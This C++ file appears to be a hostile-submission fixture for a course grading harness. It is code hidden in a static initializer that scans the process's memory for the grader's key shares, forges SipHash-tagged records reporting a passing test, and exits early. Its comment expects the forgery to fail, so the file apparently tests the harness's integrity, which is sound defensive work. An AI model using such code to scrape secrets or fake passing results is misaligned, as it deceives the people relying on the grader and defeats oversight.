// Hostile submission: the untouched stub, and code that searches the test process's memory
// for the course's key, as a student who read channel_writer.hpp would (the key's shares
// lie in an anonymous mapping of 8 to 32 pages), then forges a passing run with what it
// found and ends the process. The key is masked with the grading build's own constants,
// which this code cannot know: whatever it seals with does not authenticate (integrity).
#include "stub.inc"

#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>

#include "harness/siphash.hpp"

namespace {

// The graded test's name, from the command line the grader gave.
std::string graded_test() {
    std::ifstream in("/proc/self/cmdline", std::ios::binary);
    std::string all((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    std::istringstream args(all);
    std::string arg;
    std::getline(args, arg, '\0');  // the program
    while (std::getline(args, arg, '\0')) {
        if (arg.rfind("--gtest_filter=", 0) == 0)
            return arg.substr(15);
        if (!arg.empty() && arg[0] != '-')
            return arg;  // Catch2: the test spec
    }
    return "";
}

void forge(const unsigned char* key, std::uint64_t seq, const std::string& payload) {
    std::uint64_t k0 = harness::channel::load_le64(key), k1 = harness::channel::load_le64(key + 8);
    harness::channel::SipHasher hasher(k0, k1);
    unsigned char number[8];
    for (int i = 0; i < 8; ++i)
        number[i] = static_cast<unsigned char>(seq >> (8 * i));
    hasher.update(number, 8);
    hasher.update(payload.data(), payload.size());
    std::uint64_t tag = hasher.finish();
    std::string record(4, '\0');
    for (int i = 0; i < 4; ++i)
        record[i] = static_cast<char>(payload.size() >> (8 * i));
    record += payload;
    for (int i = 0; i < 8; ++i)
        record.push_back(static_cast<char>(tag >> (8 * i)));
    if (::write(4, record.data(), record.size()) < 0)
        std::perror("write");
}

// Runs before main(), from an ordinary static object (no attribute for a review to see).
struct Forger {
    Forger() {
        std::string test = graded_test();
        if (test.empty())
            return;
        std::ifstream maps("/proc/self/maps");
        std::string line;
        while (std::getline(maps, line)) {
            unsigned long start = 0, end = 0;
            char perms[5] = {};
            if (std::sscanf(line.c_str(), "%lx-%lx %4s", &start, &end, perms) != 3)
                continue;
            unsigned long pages = (end - start) / 4096;
            bool anonymous =
                line.find('/') == std::string::npos && line.find('[') == std::string::npos;
            if (!anonymous || perms[0] != 'r' || perms[1] != 'w' || pages < 8 || pages > 32)
                continue;
            // Guess: the masks are zero and the shares at the two halves' starts.
            auto* vault = reinterpret_cast<const unsigned char*>(start);
            unsigned char key[16];
            for (int i = 0; i < 16; ++i)
                key[i] = vault[i] ^ vault[(end - start) / 2 + i];
            forge(key, 0, R"({"kind":"begin","test":")" + test + R"("})");
            forge(key, 1,
                  R"({"kind":"result","test":")" + test + R"(","message":"","outcome":"pass"})");
            forge(key, 2, R"({"kind":"canary","failed":true})");
            forge(key, 3, R"({"kind":"end","exit_code":0})");
            ::_exit(0);
        }
    }
} forger;

}  // namespace
